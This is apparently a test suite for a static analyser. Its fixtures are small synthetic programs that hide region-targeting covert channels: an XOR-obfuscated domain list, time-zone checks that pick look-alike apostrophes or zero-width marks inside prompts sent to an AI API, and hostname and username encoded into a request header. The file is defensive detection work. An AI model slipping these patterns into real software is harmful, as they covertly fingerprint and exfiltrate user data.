// End-to-end behaviour of the static core on small synthetic programs: what must be caught (with
// its evidence) and what must stay quiet. Each fixture is written for this project.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, lineColOf, significant, xorBase64 } from '../helpers/analyze.js';

const DOMAINS = 'mirror.example.cn,relay.sample.ru,gw.test.ir,example.com.cn';

/** A covert channel built from general parts: hidden list, host + zone reads, look-alike, format change, request. */
function covertFixture(key: number): string {
  return `
const KEY = ${key};
const PACKED = "${xorBase64(DOMAINS, key)}";
function unpack(s) { const b = Buffer.from(s, "base64"); let out = ""; for (const c of b) out += String.fromCharCode(c ^ KEY); return out.split(","); }
let cachedZone = null;
function zone() { if (!cachedZone) cachedZone = Intl.DateTimeFormat().resolvedOptions().timeZone; return cachedZone; }
function apiHost() { const u = process.env.ACME_API_URL; if (!u) return null; try { return new URL(u).hostname.toLowerCase(); } catch { return null; } }
function classify() {
  const h = apiHost(), z = zone();
  const east = z === "Europe/Moscow" || z === "Asia/Tehran";
  if (!h) return { listed: false, east };
  return { listed: unpack(PACKED).some((d) => h === d || h.endsWith("." + d)), east };
}
function mark(listed, east) { if (!listed && !east) return "'"; if (listed) return "\\u2019"; return "\\u02BC"; }
function line(date) {
  const c = classify();
  const q = mark(c.listed, c.east);
  const d = c.east ? date.replace(/-/g, ".") : date;
  return \`Report for the user\${q}s project created on \${d} by the assistant.\`;
}
export async function ask(prompt) {
  const body = { model: "m-1", max_tokens: 100, messages: [{ role: "user", content: line("2026-01-02") + prompt }] };
  return fetch("https://api.example.com/v1/chat", { method: "POST", body: JSON.stringify(body) });
}
`;
}

test('covert channel: critical mechanism with decoded list, both sources, look-alike, format change and sink', () => {
  const code = covertFixture(37);
  const top = significant(code)[0];
  assert.ok(top, 'expected a finding');
  assert.equal(top.ruleId, 'covert-channel-mechanism');
  assert.equal(top.severity, 'critical');
  assert.equal(top.category, 'covert-channel');
  assert.deepEqual(
    top.decoded.map((d) => [d.encoding, d.text]),
    [['base64+xor(37)', DOMAINS]],
  );
  const roles = (r: string) => top.related.filter((e) => e.role === r);
  const notes = top.related.map((e) => e.note).join('\n');
  assert.ok(roles('source').some((e) => e.note.includes('time zone')), notes);
  assert.ok(roles('source').some((e) => e.note.includes('process.env.ACME_API_URL')), notes);
  assert.ok(roles('choice').some((e) => e.note.includes('U+2019') && e.note.includes('U+02BC')), notes);
  assert.ok(roles('transform').some((e) => e.note.includes("'-' replaced by '.'")), notes);
  assert.ok(roles('condition').some((e) => e.note.includes('"Europe/Moscow"')), notes);
  assert.ok(roles('sink').length > 0, notes);
  const choice = roles('choice')[0]!;
  assert.deepEqual({ line: choice.location.line, column: choice.location.column }, lineColOf(code, 'function mark'));
  assert.ok(roles('decoder').some((e) => e.excerpt?.includes('c ^ KEY')), notes);
});

test('covert channel: the key is found whatever constant the code uses', () => {
  for (const key of [7, 91, 200]) {
    const top = significant(covertFixture(key))[0]!;
    assert.equal(top.severity, 'critical', `key ${key}`);
    assert.equal(top.decoded[0]?.text, DOMAINS);
  }
});

const BENIGN: [string, string][] = [
  ['typographic apostrophe in UI text', 'console.log("Don\\u2019t panic: it\\u2019s fine");'],
  ['time zone shown to the user', 'console.log("Your time zone: " + Intl.DateTimeFormat().resolvedOptions().timeZone);'],
  [
    'base64 image',
    `const img = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
     const raw = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
     document.body.innerHTML = '<img src="' + img + raw + '">';`,
  ],
  [
    'disclosed opt-out telemetry of platform facts',
    `import os from "os";
     if (!process.env.DO_NOT_TRACK) fetch("https://telemetry.example.com/v1", { method: "POST", body: JSON.stringify({ os: os.platform(), arch: process.arch, v: "1.0" }) });`,
  ],
  [
    'terminal capability fallback between look-alikes',
    `const fancy = process.env.TERM !== "dumb" && process.platform !== "win32";
     const q = fancy ? "\\u2019" : "'";
     console.log("It" + q + "s done");`,
  ],
  [
    'hash-function shift table next to an XOR routine',
    'const S = [7,12,17,22,7,12,17,22,7,12,17,22,7,12,17,22,5,9,14,20,5,9,14,20,5,9,14,20,5,9,14,20]; export function pad(b) { return b.map((x) => x ^ 98 ^ S[0]); }',
  ],
  ['time-zone picker data', 'export const zones = ["Europe/Berlin", "Asia/Tokyo", "America/New_York"]; export function label(z) { return z.replace("_", " "); }'],
];

for (const [name, code] of BENIGN) {
  test(`quiet: ${name}`, () => {
    const found = significant(code);
    assert.deepEqual(
      found.map((f) => `${f.severity} ${f.ruleId}: ${f.title}`),
      [],
    );
  });
}

test('region targeting: a zone compared with region data that changes where requests go is high', () => {
  const code = `
    const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
    let base = "https://registry.example.com";
    if (tz === "Asia/Shanghai") base = "https://mirror.example.cn";
    fetch(base + "/pkg");`;
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'region-targeting');
  assert.equal(f[0]?.severity, 'high');
  assert.deepEqual({ line: f[0]!.location.line, column: f[0]!.location.column }, lineColOf(code, 'tz === "Asia/Shanghai"'));
  assert.ok(f[0]!.title.includes('CN'), f[0]!.title);
});

test('invisible mark chosen by time zone and sent in a header is critical (policy row covert-choice-leaves)', () => {
  const code = `
    const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
    const tag = tz.startsWith("Asia/") ? "\\u200b" : "";
    fetch("https://api.example.com", { headers: { "x-client": "cli" + tag } });`;
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'covert-channel-mechanism');
  assert.equal(f[0]?.severity, 'critical');
  assert.equal(f[0]?.policy.row, 'covert-choice-leaves');
  assert.ok(f[0]!.related.some((e) => e.role === 'choice' && e.note.includes('U+200B')), JSON.stringify(f[0]!.related));
});

test('host name sent to the network in the clear is medium', () => {
  const code = `import os from "os"; fetch("https://t.example.com", { method: "POST", body: JSON.stringify({ h: os.hostname() }) });`;
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'fingerprint-sent');
  assert.equal(f[0]?.severity, 'medium');
});

test('encoded source names are obfuscated fingerprinting', () => {
  const direct = `const name = Buffer.from("${Buffer.from('os.networkInterfaces,hostname').toString('base64')}", "base64").toString();`;
  const f = significant(direct);
  assert.equal(f[0]?.ruleId, 'obfuscated-fingerprinting');
  assert.equal(f[0]?.severity, 'high');
  assert.equal(f[0]?.decoded[0]?.text, 'os.networkInterfaces,hostname');
});

test('a file that does not parse becomes an internal finding, not an exception', () => {
  const r = analyze('function ( {');
  assert.equal(r.findings.length, 1);
  assert.equal(r.findings[0]!.ruleId, 'parse-error');
  assert.equal(r.findings[0]!.category, 'internal');
});

test('deep nesting is cut at the limit and reported', () => {
  const depth = 5000;
  const code = 'x = ' + '['.repeat(depth) + ']'.repeat(depth) + ';';
  const r = analyze(code);
  assert.ok(r.findings.some((f) => f.ruleId === 'depth-limit' || f.ruleId === 'parse-error'), JSON.stringify(r.findings.map((f) => f.ruleId)));
});

test('a UTC offset compared with getTimezoneOffset() is region targeting', () => {
  const code = `
    const off = new Date().getTimezoneOffset();
    let endpoint = "https://api.example.com";
    if (off === -480 || off === -540) endpoint = "https://alt.example.net";
    fetch(endpoint);`;
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'region-targeting');
  assert.equal(f[0]?.severity, 'high');
  assert.ok(f[0]!.related.some((e) => e.role === 'data' && e.note.includes('UTC+8')), JSON.stringify(f[0]!.related.map((e) => e.note)));
});

test('a country code compared with the locale region is region targeting', () => {
  const code = `
    const region = new Intl.Locale(Intl.DateTimeFormat().resolvedOptions().locale).region;
    const q = region === "IR" ? "\u02BC" : "'";
    fetch("https://api.example.com/v1", { method: "POST", body: JSON.stringify({ model: "m", messages: [{ role: "user", content: \`The user\${q}s files\` }] }) });`;
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'covert-channel-mechanism');
  assert.equal(f[0]?.severity, 'critical');
  assert.ok(f[0]!.related.some((e) => e.role === 'condition' && e.note.includes('"IR"')), JSON.stringify(f[0]!.related.map((e) => e.note)));
});

test('a look-alike table indexed by a region decision', () => {
  const code = `
    const MARKS = ["'", "\u2019", "\u02BC"];
    const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
    const i = tz === "Europe/Minsk" ? 1 : tz === "Asia/Tehran" ? 2 : 0;
    const text = \`It\${MARKS[i]}s a fine day for the user.\`;
    fetch("https://api.example.com/v1/chat", { method: "POST", body: JSON.stringify({ model: "m", messages: [{ role: "user", content: text }] }) });`;
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'covert-channel-mechanism');
  assert.equal(f[0]?.severity, 'critical');
});

test('a host name encoded before it is sent is hidden exfiltration (high)', () => {
  const code = `
    import os from "os";
    const tag = Buffer.from(os.hostname() + "|" + os.userInfo().username).toString("base64");
    fetch("https://api.example.com/v1/ping", { headers: { "x-request-tag": tag } });`;
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'hidden-exfiltration');
  assert.equal(f[0]?.severity, 'high');
  assert.deepEqual({ line: f[0]!.location.line, column: f[0]!.location.column }, lineColOf(code, 'Buffer.from(os.hostname()'));
  assert.ok(f[0]!.related.some((e) => e.role === 'encoding' && e.note.includes('toString("base64")')));
});

test('quiet: encoding a file or configured credentials is not hidden exfiltration', () => {
  const code = `
    import fs from "fs";
    const body = fs.readFileSync("./image.png").toString("base64");
    const auth = btoa(process.env.PROXY_USER + ":" + process.env.PROXY_PASSWORD);
    fetch(process.env.UPLOAD_URL, { method: "POST", headers: { authorization: "Basic " + auth }, body });`;
  assert.deepEqual(significant(code).map((x) => x.ruleId), []);
});

test('hidden data: an encoded string of readable text is low, one of region data medium', () => {
  const text = `const notice = Buffer.from("${Buffer.from('please contact the maintainers for access').toString('base64')}", "base64").toString();`;
  const low = significant(text);
  assert.deepEqual(low.map((f) => [f.ruleId, f.severity, f.policy.row, f.decoded[0]?.text]), [['hidden-data', 'low', 'hidden-text', 'please contact the maintainers for access']]);
  const zones = `const z = Buffer.from("${Buffer.from('Europe/Minsk,Asia/Pyongyang,Europe/Moscow').toString('base64')}", "base64").toString();`;
  const medium = significant(zones);
  assert.deepEqual(medium.map((f) => [f.ruleId, f.severity, f.policy.row]), [['hidden-data', 'medium', 'hidden-region-data']]);
});
